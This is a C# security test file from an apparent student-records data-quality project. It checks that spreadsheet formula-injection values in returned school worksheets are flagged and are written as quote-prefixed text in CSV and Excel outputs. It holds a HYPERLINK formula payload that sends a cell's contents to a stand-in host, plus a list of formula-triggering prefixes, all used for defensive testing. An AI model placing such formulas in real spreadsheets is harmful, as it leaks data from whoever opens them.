using DocumentFormat.OpenXml.Spreadsheet;
using StudentDataQuality.Application;
using StudentDataQuality.Data.Exchange;
using StudentDataQuality.Data.Quality;
using StudentDataQuality.Data.Staging;
using StudentDataQuality.Tests.Infrastructure;
using StudentDataQuality.Tests.Synthetic;
using StudentDataQuality.Tests.Worksheets;
using StudentDataQuality.Worksheets;

namespace StudentDataQuality.Tests.Security;

/// <summary>
/// Issue 16, item 1: a value that a spreadsheet would take for a formula goes back to the school (rule S04) and is
/// written harmlessly into every CSV and .xlsx the project writes for people.
/// </summary>
public sealed class FormulaValueTests(DatabaseFixture db) : IClassFixture<DatabaseFixture>, IDisposable
{
    /// <summary>The verified attack of issue 16: typed into a returned worksheet's address cell, as text.</summary>
    public const string Attack = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"详情\")";

    /// <summary>Every start a spreadsheet reads as a formula (or strips before reading one), half- and full-width.</summary>
    public static readonly string[] FormulaLike =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", " =1+1", "\u3000=1+1", Attack,
    ];

    private readonly TempFolder _temp = new();

    public void Dispose() => _temp.Dispose();

    public static TheoryData<string> FormulaLikeValues() => [.. FormulaLike];

    [Fact]
    [Trait("Category", "Security")]
    public async Task AFormulaTypedIntoAReturnedAddress_StaysOpenUnderS04_AndTheChangeSetWritesItAsText()
    {
        var round = await OneSchoolRound.CreateAsync(db.DataSource, _temp.Path, "sec-formula");
        var returned = round.Returned(Attack);

        var result = await round.Ingest.IngestAsync(new MemoryStream(returned), "returned.xlsx", round.School);

        var line = Assert.Single(result.Receipt.Rows, r => r.RowKey == round.RecordId.ToString(System.Globalization.CultureInfo.InvariantCulture));
        Assert.Equal(("address", Attack), (line.Changes.Single().Field, line.Changes.Single().NewValue));
        Assert.Contains(("S04", "address"), await round.OpenFindingsAsync());

        var path = Path.Combine(_temp.Path, "changes.csv");
        await new ChangeSetWriter(db.DataSource).WriteAsync(round.Code, path, Account.Operator("test"), StudentDataQuality.Tests.Infrastructure.TestWatermarks.Changes);
        var rows = PlainCsv.Read(path);
        var address = Array.IndexOf(rows[0], Records.Layouts.Student.Fields.Single(f => f.Name == "address").Header);
        Assert.Equal("'" + Attack, Assert.Single(rows.Skip(1))[address]);
        Assert.DoesNotContain(rows.SelectMany(r => r), v => v.Length > 0 && v[0] is '=' or '+' or '-' or '@' or '\t' or '\r' or '＝' or '＋' or '－' or '＠');
    }

    [Theory]
    [MemberData(nameof(FormulaLikeValues))]
    [Trait("Category", "Security")]
    public void AWorksheet_WritesFormulaLikeText_AsQuotePrefixedText(string value)
    {
        var row = WorksheetSamples.Row("9", "1", "1班", value, new() { ["address"] = value, ["name"] = value });
        var document = RowSignature.SignRows(WorksheetSamples.Key, WorksheetSamples.Tricky() with { Fields = ["name", "address"], Rows = [row] });

        AssertTextWithQuotePrefix(WorksheetSamples.Write(document), value, atLeast: 3);
    }

    [Theory]
    [MemberData(nameof(FormulaLikeValues))]
    [Trait("Category", "Security")]
    public void AReceipt_WritesFormulaLikeText_AsQuotePrefixedText(string value)
    {
        var receipt = new Receipt
        {
            ReturnId = 7, WorksheetId = Guid.NewGuid(), RoundCode = "2026-秋", SchoolCode = "2123000001", SchoolName = value, IssueNumber = 1,
            FileName = "w.xlsx", Sha256 = new string('a', 64), ReceivedAt = DateTimeOffset.UnixEpoch, ReceivedBy = "school-2123000001",
            Language = WorksheetLanguage.Chinese,
            Rows = [new ReceiptRow(2, "1001", "G230102201809010021", value, ReceiptOutcome.AppliedStillFailing,
                [new ReceiptChange("address", "家庭住址", "旧", value)], [], [new ReceiptProblem("S04", ProblemSeverity.Error, "address", "公式", value)])],
            StillOpen = [new ReceiptOpenProblem("G230102201809010021", value, new ReceiptProblem("S04", ProblemSeverity.Error, "address", "公式", value), false)],
        };
        using var stream = new MemoryStream();

        ReceiptWriter.Write(receipt, stream);

        AssertTextWithQuotePrefix(stream.ToArray(), value, atLeast: 3);
    }

    [Theory]
    [MemberData(nameof(FormulaLikeValues))]
    [Trait("Category", "Security")]
    public void ATrendExport_WritesFormulaLikeText_AsQuotePrefixedText(string value)
    {
        using var stream = new MemoryStream();

        ReportWorkbook.Write(stream, "趋势", [new ReportColumn(value, ReportFormat.Text), new ReportColumn("n", ReportFormat.Integer)], [[value, 3]]);

        AssertTextWithQuotePrefix(stream.ToArray(), value, atLeast: 2);
    }

    /// <summary>Every cell of the workbook that holds the value (a CR may come back as LF) is text, quote-prefixed, never a formula.</summary>
    private static void AssertTextWithQuotePrefix(byte[] bytes, string value, int atLeast)
    {
        using var book = new OpenXmlWorkbook(bytes);
        var cells = book.Sheets.SelectMany(s => book.Cells(s.Name!).Values).ToList();
        Assert.All(cells, c => Assert.False(c.HasFormula, $"{c.Reference} has a formula"));
        var holding = cells.Where(c => c.Text == value || c.Text == value.Replace('\r', '\n')).ToList();
        Assert.True(holding.Count >= atLeast, $"{holding.Count} cells hold the value, expected at least {atLeast}");
        Assert.All(holding, c =>
        {
            Assert.Equal(CellValues.SharedString, c.Type);
            Assert.True(c.QuotePrefix, $"{c.Reference} has no quote prefix");
            Assert.Equal("@", c.NumberFormat);
        });
    }
}

/// <summary>
/// One school's round staged from a hand-made export: a student whose address has unreadable characters (S02), checked
/// and issued, so that the worksheet shows the address for the registrar to correct.
/// </summary>
public sealed class OneSchoolRound
{
    private OneSchoolRound(Npgsql.NpgsqlDataSource dataSource, string code, string issued, IssuedFile file, long recordId)
    {
        DataSource = dataSource;
        Code = code;
        IssuedFolder = issued;
        File = file;
        RecordId = recordId;
    }

    public Npgsql.NpgsqlDataSource DataSource { get; }

    public string Code { get; }

    public string IssuedFolder { get; }

    public IssuedFile File { get; }

    public long RecordId { get; }

    public Account School => IngestScenario.AccountOf(File.SchoolCode);

    public ReturnIngest Ingest => new(DataSource, IngestScenario.Key);

    public byte[] Issued => System.IO.File.ReadAllBytes(Path.Combine(IssuedFolder, File.RelativePath));

    public static async Task<OneSchoolRound> CreateAsync(Npgsql.NpgsqlDataSource dataSource, string folder, string code)
    {
        var export = Path.Combine(folder, code + "-export");
        SampleExport.WriteCsv(export, "schools.csv", [SampleExport.ChineseHeaders(Records.Layouts.School), RuleHarness.PrimarySchool]);
        SampleExport.WriteCsv(export, "students.csv", [SampleExport.ChineseHeaders(), SampleExport.Student(("address", "黑龙江省哈尔滨市\uFFFD\uFFFD道里区"))]);
        await new ExtractService(dataSource).ExtractFilesAsync(new ExtractRequest(code, "test") { RoundDate = new DateOnly(2026, 10, 15) }, [export]);
        await new CheckRunner(dataSource).RunAsync(code, "test");
        // The worksheets go to a folder the program makes (and the test checks how it made it).
        var issued = Path.Combine(folder, code + "-out", "issued");
        var file = Assert.Single(await new WorksheetIssuer(dataSource, IngestScenario.Key).IssueAsync(new WorksheetRequest(code, issued, "test") { Workers = 1 }));
        await new AccountStore(dataSource).AddAsync(IngestScenario.AccountOf(file.SchoolCode), "test");
        await using var command = dataSource.CreateCommand("SELECT r.record_id FROM registry.current_record r JOIN registry.round d USING (round_id) WHERE d.code = @code");
        command.Parameters.AddWithValue("code", code);
        var recordId = (long)(await command.ExecuteScalarAsync())!;
        return new OneSchoolRound(dataSource, code, issued, file, recordId);
    }

    /// <summary>The issued worksheet with <paramref name="address"/> typed into the student's address cell, as text, and the row marked corrected.</summary>
    public byte[] Returned(string address)
    {
        var issued = Issued;
        var layout = IngestScenario.Read(issued);
        using var edits = new RegistrarEdits(issued, layout.Meta.Language);
        var row = layout.Rows.Single(r => r.RowKey == RecordId.ToString(System.Globalization.CultureInfo.InvariantCulture)).ExcelRow;
        edits.Type(row, layout.ColumnNumbers["field.address"], address);
        edits.Type(row, layout.ColumnNumbers["action"], WorksheetAction.Corrected.Label(layout.Meta.Language));
        return edits.Save();
    }

    public async Task<List<(string Rule, string Field)>> OpenFindingsAsync()
    {
        await using var command = DataSource.CreateCommand("""
            SELECT f.rule_id, f.field FROM quality.finding f WHERE f.record_id = @id AND f.status = 'open' ORDER BY 1, 2
            """);
        command.Parameters.AddWithValue("id", RecordId);
        await using var reader = await command.ExecuteReaderAsync();
        var list = new List<(string, string)>();
        while (await reader.ReadAsync())
        {
            list.Add((reader.GetString(0), reader.GetString(1)));
        }

        return list;
    }
}
